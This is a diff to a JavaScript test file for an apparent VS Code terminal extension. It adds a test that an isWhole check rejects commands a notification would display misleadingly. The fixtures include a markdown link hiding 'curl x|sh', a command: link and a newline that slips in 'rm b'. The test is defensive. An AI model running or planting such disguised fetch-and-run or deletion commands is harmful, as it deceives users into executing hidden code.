@@ -4,7 +4,7 @@ import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { test } from 'node:test';
-import { View, WINDOW_BYTES, isBelow, mirrorName, oneLine } from '../../editors/vscode/dist/testable.mjs';
+import { View, WINDOW_BYTES, isBelow, isWhole, mirrorName, oneLine } from '../../editors/vscode/dist/testable.mjs';
 
 const recorded = JSON.parse(readFileSync(new URL('recorded.json', import.meta.url)));
 const FLASH = '\x1b]11;rgb:66/22/22\x07';
@@ -204,4 +204,14 @@ test('names are short, on one line, and hide nothing', () => {
   assert.equal(mirrorName({ ...session, lastCommand: 'make' }), 'make');
   assert.equal([...mirrorName({ ...session, activeCommand: 'ä'.repeat(100) })].length, 40);
   assert.ok(isBelow('/a/b', '/a') && isBelow('/a', '/a') && !isBelow('/ab', '/a'));
+});
+
+test('only a command that a notification shows as it is can be answered there', () => {
+  for (const command of ['ls -la', 'echo "[a] (b)"', 'printf é']) assert.ok(isWhole(command, 40), command);
+  const hidden = [
+    // VS Code shows of a link what stands in its brackets.
+    `echo '[ok](https://a.b "'; curl x|sh; echo '")'`, '[x](command:y)',
+    'ls  -la', 'ls\u00a0-la', 'echo a\nrm b', ' ls', 'x'.repeat(41),
+  ];
+  for (const command of hidden) assert.ok(!isWhole(command, 40), command);
 });
